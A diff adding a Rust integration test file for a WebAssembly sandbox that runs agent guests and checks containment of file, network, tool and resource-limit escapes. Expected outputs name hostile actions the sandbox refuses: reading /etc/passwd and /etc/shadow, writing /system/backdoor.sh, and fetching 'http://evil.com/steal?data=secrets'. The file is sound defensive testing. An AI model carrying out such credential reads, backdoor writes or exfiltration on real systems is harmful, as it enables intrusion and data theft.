@@ -1,0 +1,503 @@
+//! Real guests, built from `guest-examples/` by this crate's build script,
+//! run through the library and the CLI: every hostile guest contained (host
+//! tree unchanged, the loopback server saw no connection, the report names
+//! the violation), every benign path works, determinism holds.
+
+use sbx_wasm::report::Status;
+use sbx_wasm::wasm::{RunOptions, Sink, WasmHost, WasmRun};
+use sbx_wasm::{Capabilities, CapabilitiesBuilder, Violation};
+use sbx_wasm_tests::{LoopbackServer, Node, guest, sbx_bin, snapshot};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex, OnceLock};
+use std::time::{Duration, Instant};
+
+/// One engine for the whole file, as an embedder would keep it.
+fn host() -> &'static WasmHost {
+    static HOST: OnceLock<WasmHost> = OnceLock::new();
+    HOST.get_or_init(|| WasmHost::new().unwrap())
+}
+
+/// The seed's tree for guests:
+///
+/// ```text
+/// root/data/{data.txt,data.csv}   read mount  -> /work
+/// root/out/                       write mount -> /work/out
+/// root/secret.txt                 outside every mount
+/// ```
+struct Tree {
+    dir: tempfile::TempDir,
+}
+
+const SECRET: &str = "CANARY-secret-never-leaves";
+
+impl Tree {
+    fn new() -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let r = dir.path();
+        std::fs::create_dir_all(r.join("data")).unwrap();
+        std::fs::create_dir_all(r.join("out")).unwrap();
+        std::fs::write(r.join("data/data.txt"), "revenue,42\ncost,17\n").unwrap();
+        std::fs::write(r.join("data/data.csv"), "quarter,revenue\nQ1,10\nQ2,32\n").unwrap();
+        std::fs::write(r.join("secret.txt"), SECRET).unwrap();
+        Tree { dir }
+    }
+    fn path(&self, rel: &str) -> PathBuf {
+        self.dir.path().join(rel)
+    }
+    fn caps(&self) -> CapabilitiesBuilder {
+        Capabilities::builder()
+            .read_mount(self.path("data"), "/work")
+            .write_mount(self.path("out"), "/work/out")
+            .allow_tool("word_count")
+            .tool_command("word_count", vec!["wc".into(), "-w".into()])
+            .max_wall(Duration::from_secs(20))
+    }
+    /// Everything outside the write mount.
+    fn outside_out(&self) -> BTreeMap<PathBuf, Node> {
+        snapshot(self.dir.path())
+            .into_iter()
+            .filter(|(p, _)| !p.starts_with("out"))
+            .collect()
+    }
+}
+
+struct Captured {
+    run: WasmRun,
+    stdout: String,
+    stderr: String,
+}
+
+fn sink() -> (Sink, Arc<Mutex<Vec<u8>>>) {
+    let buf = Arc::new(Mutex::new(Vec::new()));
+    (buf.clone(), buf)
+}
+
+fn run_guest(
+    name: &str,
+    caps: Capabilities,
+    args: &[&str],
+    stdin: &[u8],
+    deterministic: bool,
+) -> Captured {
+    let component = host().load(&guest(name)).unwrap();
+    let (out, out_buf) = sink();
+    let (err, err_buf) = sink();
+    let mut opts = RunOptions::new(caps.clone());
+    opts.program_name = name.to_string();
+    opts.args = args.iter().map(|s| s.to_string()).collect();
+    opts.stdin = stdin.to_vec();
+    opts.stdout = out;
+    opts.stderr = err;
+    let mut tools = sbx_wasm::tools::ToolRegistry::new();
+    for (name, cmd) in caps.tool_commands() {
+        tools.register(name.clone(), cmd.clone());
+    }
+    opts.tools = tools;
+    opts.deterministic = deterministic;
+    let run = host().run(&component, opts).unwrap();
+    let text = |b: &Arc<Mutex<Vec<u8>>>| String::from_utf8_lossy(&b.lock().unwrap()).into_owned();
+    Captured {
+        stdout: text(&out_buf),
+        stderr: text(&err_buf),
+        run,
+    }
+}
+
+fn assert_halted(c: &Captured, v: Violation) {
+    assert_eq!(
+        c.run.report.status,
+        Status::HardLimit,
+        "{:?}\n{}",
+        c.run,
+        c.stderr
+    );
+    assert_eq!(c.run.report.violation, Some(v), "{:?}", c.run);
+}
+
+#[test]
+fn seed_agent_sees_each_decision() {
+    let t = Tree::new();
+    let s = LoopbackServer::start();
+    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
+    let before = t.outside_out();
+    let c = run_guest(
+        "seed",
+        caps,
+        &[&format!("{}/status", s.origin())],
+        b"",
+        false,
+    );
+    assert_eq!(
+        c.run.report.status,
+        Status::Completed,
+        "{:?} {}",
+        c.run,
+        c.stderr
+    );
+    let lines: Vec<&str> = c.stdout.lines().collect();
+    let want = [
+        "1. read /work/data.txt: ok",
+        "2. read /etc/passwd: refused",
+        "3. read /work/../etc/shadow: refused",
+        "4. write /work/out/report.txt: ok",
+        "5. write /system/backdoor.sh: refused",
+        "6. fetch",
+        "7. fetch http://evil.com/steal?data=secrets: refused: denied: egress_denied",
+        "8. tool word_count: ok: 7",
+        "9. tool shell: refused: denied: tool_denied",
+    ];
+    assert_eq!(lines.len(), want.len(), "{}", c.stdout);
+    for (line, w) in lines.iter().zip(want) {
+        assert!(line.starts_with(w), "{line:?} should start with {w:?}");
+    }
+    assert!(lines[5].contains("ok: HTTP 200 \"ok\""), "{}", lines[5]);
+    assert_eq!(
+        s.connections(),
+        1,
+        "only the granted fetch reached the network"
+    );
+    assert_eq!(t.outside_out(), before);
+    assert!(
+        std::fs::read_to_string(t.path("out/report.txt"))
+            .unwrap()
+            .contains("margin")
+    );
+    let denied: Vec<_> = c.run.report.denials.iter().map(|d| d.violation).collect();
+    assert_eq!(denied, [Violation::EgressDenied, Violation::ToolDenied]);
+    assert_eq!(c.run.audit.len(), 4);
+    assert_eq!(c.run.audit[0].status, Some(200));
+}
+
+#[test]
+fn benign_agent_does_its_work() {
+    let t = Tree::new();
+    let s = LoopbackServer::start();
+    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
+    let c = run_guest(
+        "benign",
+        caps,
+        &[&format!("{}/status", s.origin())],
+        b"",
+        false,
+    );
+    assert_eq!(
+        c.run.report.status,
+        Status::Completed,
+        "{:?} {}",
+        c.run,
+        c.stderr
+    );
+    assert_eq!(c.run.report.exit_code, Some(0));
+    let summary = std::fs::read_to_string(t.path("out/summary.txt")).unwrap();
+    assert_eq!(summary, "rows=2 total=42 api=ok words=3\n");
+    assert_eq!(c.stdout, summary);
+    assert!(c.run.report.denials.is_empty());
+}
+
+#[test]
+fn infinite_loop_ends_as_max_fuel_or_max_wall() {
+    let t = Tree::new();
+    let c = run_guest(
+        "spin",
+        t.caps().max_fuel(50_000_000).build().unwrap(),
+        &[],
+        b"",
+        false,
+    );
+    assert_halted(&c, Violation::MaxFuel);
+    assert_eq!(c.run.report.usage.fuel, Some(50_000_000));
+    let started = Instant::now();
+    let caps = t
+        .caps()
+        .max_fuel(sbx_wasm::budget::LIMIT_MAX_FUEL)
+        .max_wall(Duration::from_millis(300))
+        .build()
+        .unwrap();
+    let c = run_guest("spin", caps, &[], b"", false);
+    assert_halted(&c, Violation::MaxWall);
+    assert!(
+        started.elapsed() < Duration::from_secs(5),
+        "{:?}",
+        started.elapsed()
+    );
+}
+
+#[test]
+fn a_guest_asleep_in_the_host_ends_as_max_wall() {
+    let t = Tree::new();
+    let started = Instant::now();
+    let c = run_guest(
+        "sleepy",
+        t.caps()
+            .max_wall(Duration::from_millis(500))
+            .build()
+            .unwrap(),
+        &[],
+        b"",
+        false,
+    );
+    assert_halted(&c, Violation::MaxWall);
+    assert_eq!(c.stdout, "going to sleep\n");
+    assert!(
+        started.elapsed() < Duration::from_secs(5),
+        "{:?}",
+        started.elapsed()
+    );
+}
+
+#[test]
+fn deep_recursion_ends_as_stack_overflow() {
+    let t = Tree::new();
+    let c = run_guest("recurse", t.caps().build().unwrap(), &[], b"", false);
+    assert_halted(&c, Violation::StackOverflow);
+}
+
+#[test]
+fn memory_bomb_ends_as_max_memory() {
+    let t = Tree::new();
+    let c = run_guest(
+        "membomb",
+        t.caps().max_memory_bytes(64 << 20).build().unwrap(),
+        &[],
+        b"",
+        false,
+    );
+    assert_halted(&c, Violation::MaxMemory);
+    let peak = c.run.report.usage.memory_peak_bytes.unwrap();
+    assert!(peak <= 64 << 20 && peak > 16 << 20, "{peak}");
+}
+
+#[test]
+fn output_flood_ends_as_max_output_bytes_with_exactly_the_budget_written() {
+    let t = Tree::new();
+    let c = run_guest(
+        "flood",
+        t.caps().max_output_bytes(10_000).build().unwrap(),
+        &[],
+        b"",
+        false,
+    );
+    assert_halted(&c, Violation::MaxOutputBytes);
+    assert_eq!(c.stdout.len(), 10_000);
+    assert_eq!(c.run.report.usage.output_bytes, 10_000);
+}
+
+#[test]
+fn probe_finds_every_escape_closed_and_only_what_was_granted() {
+    let t = Tree::new();
+    std::os::unix::fs::symlink("../secret.txt", t.path("out/link")).unwrap();
+    std::os::unix::fs::symlink(t.path("secret.txt"), t.path("out/abs")).unwrap();
+    std::fs::write(t.path("out/note.txt"), "note").unwrap();
+    let s = LoopbackServer::start();
+    let caps = t.caps().env("GRANTED", "yes").build().unwrap();
+    let before = t.outside_out();
+    // SAFETY of the probe: the host's own environment must not leak in.
+    let c = run_guest(
+        "probe",
+        caps,
+        &["--flag", &format!("127.0.0.1:{}", s.port)],
+        b"hello stdin",
+        false,
+    );
+    assert_eq!(
+        c.run.report.status,
+        Status::Completed,
+        "{:?} {}",
+        c.run,
+        c.stderr
+    );
+    let lines: BTreeMap<&str, &str> = c
+        .stdout
+        .lines()
+        .filter_map(|l| l.split_once(": "))
+        .collect();
+    assert_eq!(
+        lines["args"],
+        format!(r#"["probe", "--flag", "127.0.0.1:{}"]"#, s.port)
+    );
+    assert_eq!(lines["env"], r#"[("GRANTED", "yes")]"#);
+    assert_eq!(lines["stdin"], r#""hello stdin""#);
+    for escape in [
+        "read-dotdot",
+        "read-abs",
+        "read-sibling",
+        "symlink-read",
+        "symlink-abs-read",
+        "symlink-write",
+        "hardlink-out",
+        "rename-out",
+        "rename-dotdot",
+        "write-ro",
+        "truncate-ro",
+        "remove-ro",
+        "mkdir-ro",
+        "socket",
+    ] {
+        assert!(
+            lines[escape].starts_with("err"),
+            "{escape} escaped: {}",
+            lines[escape]
+        );
+    }
+    assert!(
+        lines["write-out"].starts_with("ok"),
+        "{}",
+        lines["write-out"]
+    );
+    assert!(!c.stdout.contains(SECRET));
+    assert_eq!(
+        t.outside_out(),
+        before,
+        "something outside the write mount changed"
+    );
+    assert_eq!(
+        std::fs::read_to_string(t.path("secret.txt")).unwrap(),
+        SECRET
+    );
+    assert_eq!(s.connections(), 0, "the raw socket reached the server");
+}
+
+#[test]
+fn deterministic_runs_are_byte_identical() {
+    let t = Tree::new();
+    let s = LoopbackServer::start();
+    let caps = t.caps().allow_egress(s.origin()).build().unwrap();
+    let url = format!("{}/status", s.origin());
+    let once = || {
+        let c = run_guest("seed", caps.clone(), &[&url], b"", true);
+        (
+            c.stdout,
+            serde_json::to_string(&c.run.report).unwrap(),
+            serde_json::to_string(&c.run.audit).unwrap(),
+        )
+    };
+    let (a, b) = (once(), once());
+    assert_eq!(a, b);
+}
+
+fn write_caps(dir: &Path, extra: &str) -> PathBuf {
+    let p = dir.join("caps.toml");
+    std::fs::write(
+        &p,
+        format!(
+            "[fs]\nread = [{{ host = \"data\", guest = \"/work\" }}]\nwrite = [{{ host = \"out\", guest = \"/work/out\" }}]\n{extra}"
+        ),
+    )
+    .unwrap();
+    p
+}
+
+fn sbx(dir: &Path, args: &[&str]) -> std::process::Output {
+    std::process::Command::new(sbx_bin())
+        .current_dir(dir)
+        .args(args)
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn cli_run_streams_output_writes_report_and_audit_and_passes_exit_codes() {
+    let t = Tree::new();
+    let s = LoopbackServer::start();
+    write_caps(
+        t.dir.path(),
+        &format!(
+            "[net]\nallow = [\"{}\"]\n[tools]\nallow = [\"word_count\"]\n[tools.command.word_count]\nargv = [\"wc\", \"-w\"]\n",
+            s.origin()
+        ),
+    );
+    let seed = guest("seed");
+    let url = format!("{}/status", s.origin());
+    let out = sbx(
+        t.dir.path(),
+        &[
+            "run",
+            "--caps",
+            "caps.toml",
+            seed.to_str().unwrap(),
+            "--report",
+            "r.json",
+            "--audit",
+            "a.jsonl",
+            "--summary",
+            "--",
+            &url,
+        ],
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    assert_eq!(stdout.lines().count(), 9, "{stdout}");
+    let stderr = String::from_utf8(out.stderr).unwrap();
+    assert!(
+        stderr.contains("sbx-wasm: completed; 2 denials; ops 4/"),
+        "{stderr}"
+    );
+    let report: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(t.path("r.json")).unwrap()).unwrap();
+    assert_eq!(report["status"], "completed");
+    assert_eq!(report["exit_code"], 0);
+    assert_eq!(
+        std::fs::read_to_string(t.path("a.jsonl"))
+            .unwrap()
+            .lines()
+            .count(),
+        4
+    );
+
+    // A hard halt still writes the report; the exit code says so.
+    write_caps(t.dir.path(), "[budget]\nmax_fuel = 10000000\n");
+    let out = sbx(
+        t.dir.path(),
+        &[
+            "run",
+            "--caps",
+            "caps.toml",
+            guest("spin").to_str().unwrap(),
+            "--report",
+            "r.json",
+        ],
+    );
+    assert_eq!(out.status.code(), Some(124));
+    let report: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(t.path("r.json")).unwrap()).unwrap();
+    assert_eq!(report["status"], "hard_limit");
+    assert_eq!(report["violation"], "max_fuel");
+}
+
+#[test]
+fn cli_run_refuses_what_it_cannot_run_and_says_why() {
+    let t = Tree::new();
+    write_caps(t.dir.path(), "");
+    std::fs::write(t.path("core.wasm"), b"\0asm\x01\0\0\0").unwrap();
+    std::fs::write(t.path("text.wasm"), b"hello").unwrap();
+    let alien = guest("alien");
+    for (file, needle) in [
+        ("missing.wasm", "cannot read missing.wasm"),
+        ("core.wasm", "core WebAssembly module, not a component"),
+        ("text.wasm", "not a WebAssembly file"),
+        (alien.to_str().unwrap(), "alien:host/launch"),
+    ] {
+        let out = sbx(t.dir.path(), &["run", "--caps", "caps.toml", file]);
+        assert_eq!(out.status.code(), Some(125), "{file}");
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(err.contains(needle), "{file}: {err}");
+    }
+    write_caps(t.dir.path(), "[budget]\nmax_fuel = -1\n");
+    let out = sbx(
+        t.dir.path(),
+        &[
+            "run",
+            "--caps",
+            "caps.toml",
+            guest("seed").to_str().unwrap(),
+        ],
+    );
+    assert_eq!(out.status.code(), Some(125));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("budget.max_fuel"));
+}
